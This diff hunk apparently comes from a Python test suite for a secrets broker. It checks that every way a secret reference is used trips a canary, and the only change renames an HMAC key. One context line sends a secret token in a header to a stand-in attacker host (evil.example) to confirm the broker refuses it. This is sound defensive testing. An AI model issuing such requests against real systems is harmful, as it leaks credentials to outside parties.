@@ -101,7 +101,7 @@ async def test_every_place_a_value_is_used_trips_the_canary(reveal_client: Revea
         resp = await client.post("/broker/http", headers=USER, json={  # refused for its destination: still a use
             "method": "GET", "url": "https://evil.example/", "headers": {"X-Token": f"{{{{{ref}}}}}"}})
         answers.append((resp.status, (await resp.json())["error"]["code"]))
-        resp = await client.post("/transit/hmac", headers=USER, json={"key": "canarykey", "input_ref": ref})
+        resp = await client.post("/transit/hmac", headers=USER, json={"key": "k", "input_ref": ref})
         answers.append((resp.status, sorted(await resp.json())))
         result = structured(await mcp_tool(client, USE_KEY, "kv_read", {"path": path}))
         answers.append(sorted(result))
